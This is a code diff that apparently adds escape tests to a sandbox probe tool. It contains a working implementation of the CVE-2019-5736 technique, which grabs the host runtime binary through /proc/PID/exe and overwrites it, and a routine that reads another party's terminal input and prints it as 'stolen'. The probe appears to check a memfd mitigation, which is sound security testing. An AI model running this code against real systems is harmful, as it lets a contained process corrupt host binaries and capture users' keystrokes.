@@ -28,6 +28,7 @@ fn errno_name(e: i32) -> String {
         libc::EXDEV => "EXDEV",
         libc::EOPNOTSUPP => "EOPNOTSUPP",
         libc::ECONNREFUSED => "ECONNREFUSED",
+        libc::ETXTBSY => "ETXTBSY",
         _ => return format!("errno{e}"),
     };
     name.to_string()
@@ -219,17 +220,133 @@ fn write_file(path: &str, data: &[u8]) -> String {
     }
 }
 
+/// `grab-exe SECS DEV INO`: for SECS seconds, open /proc/PID/exe of
+/// every other process (O_PATH) as CVE-2019-5736 does; a process whose
+/// exe is the file DEV:INO (the host's burrow binary) is reported
+/// (`grabbed PID`), and the file is written through that handle as soon
+/// as the kernel lets it (`wrote`); `write-refused ERRNO` when refused
+/// for another reason than ETXTBSY (something runs it), or at the end.
+/// Refused opens are reported once per pid (`denied PID ERRNO`), and so
+/// are processes that run from a memfd (`opened PID /memfd:...`).
+fn grab_exe(secs: u64, dev: u64, ino: u64) {
+    let me = std::process::id() as i32;
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    let mut denied = std::collections::HashSet::new();
+    let mut memfds = std::collections::HashSet::new();
+    let mut top = 1;
+    let mut grabbed: Option<i32> = None;
+    let mut last_refusal = String::new();
+    while std::time::Instant::now() < deadline {
+        if let Some(fd) = grabbed {
+            // Opening the handle's file for writing: refused with ETXTBSY
+            // while anything executes it, allowed once nothing does.
+            let path = c(&format!("/proc/self/fd/{fd}"));
+            // SAFETY: a valid NUL-terminated path; the buffer is ours.
+            let w = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY) };
+            if w >= 0 {
+                // SAFETY: w is an fd we own; the buffer is 5 live bytes.
+                let n = unsafe { libc::pwrite(w, b"PWNED".as_ptr().cast(), 5, 0) };
+                println!("wrote {}", if n == 5 { "ok".into() } else { errno_name(last_errno()) });
+                return;
+            }
+            let e = last_errno();
+            if e != libc::ETXTBSY {
+                // Not because something runs it: refused for good.
+                println!("write-refused {}", errno_name(e));
+                return;
+            }
+            last_refusal = errno_name(e);
+            std::thread::sleep(std::time::Duration::from_millis(5));
+            continue;
+        }
+        // New processes get the next pids: look at those first, then all.
+        let mut pids: Vec<i32> = (top + 1..top + 8).collect();
+        if let Ok(dir) = std::fs::read_dir("/proc") {
+            pids.extend(dir.flatten().filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok()));
+        }
+        for pid in pids {
+            if pid == me {
+                continue;
+            }
+            let path = c(&format!("/proc/{pid}/exe"));
+            // SAFETY: a valid NUL-terminated path.
+            let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+            if fd < 0 {
+                let e = last_errno();
+                if e != libc::ENOENT && denied.insert(pid) {
+                    println!("denied {pid} {}", errno_name(e));
+                }
+                continue;
+            }
+            top = top.max(pid);
+            // SAFETY: fd is ours; st is a zeroed stat the call fills.
+            let mut st: libc::stat = unsafe { std::mem::zeroed() };
+            let same = unsafe { libc::fstat(fd, &mut st) } == 0 && st.st_dev == dev && st.st_ino == ino;
+            if same {
+                println!("grabbed {pid}");
+                grabbed = Some(fd);
+                break;
+            }
+            // A process running from an in-memory copy (burrow's sealed
+            // one): said once, it shows the road was taken.
+            let target = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap_or_default();
+            if target.to_string_lossy().starts_with("/memfd:") && memfds.insert(pid) {
+                println!("opened {pid} {}", target.display());
+            }
+            // SAFETY: fd is ours and not used again.
+            unsafe { libc::close(fd) };
+        }
+    }
+    match grabbed {
+        Some(_) => println!("write-refused {last_refusal}"),
+        None => println!("grabbed none"),
+    }
+}
+
+/// `read-fd N MS`: reopen /proc/self/fd/N for reading (as a process that
+/// wants to read what the user types into the terminal would) and print
+/// what arrives in MS milliseconds as `stolen:<bytes>`, or the errno.
+fn read_fd(fd: i32, ms: u64) {
+    let path = c(&format!("/proc/self/fd/{fd}"));
+    // SAFETY: a valid NUL-terminated path.
+    let r = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY | libc::O_NONBLOCK) };
+    if r < 0 {
+        println!("read-fd {}", errno_name(last_errno()));
+        return;
+    }
+    let deadline = std::time::Instant::now() + std::time::Duration::from_millis(ms);
+    let mut got = Vec::new();
+    let mut buf = [0u8; 256];
+    while std::time::Instant::now() < deadline {
+        // SAFETY: r is ours; the buffer is live with its true length.
+        let n = unsafe { libc::read(r, buf.as_mut_ptr().cast(), buf.len()) };
+        if n > 0 {
+            got.extend_from_slice(&buf[..n as usize]);
+        } else {
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+    }
+    println!("stolen:{}", String::from_utf8_lossy(&got).escape_default());
+}
+
 fn main() {
     let args: Vec<String> = std::env::args().skip(1).collect();
     match args.first().map(String::as_str) {
         Some("status") => status(),
+        Some("grab-exe") if args.len() == 4 => {
+            let n = |i: usize| args[i].parse::<u64>().expect("a number");
+            grab_exe(n(1), n(2), n(3))
+        }
+        Some("read-fd") if args.len() == 3 => {
+            read_fd(args[1].parse().expect("an fd"), args[2].parse().expect("ms"))
+        }
         Some("try") => {
             for name in &args[1..] {
                 println!("{name} {}", attempt(name));
             }
         }
         _ => {
-            eprintln!("usage: burrow-probe status | try NAME...");
+            eprintln!("usage: burrow-probe status | try NAME... | grab-exe SECS DEV INO | read-fd N MS");
             std::process::exit(2);
         }
     }
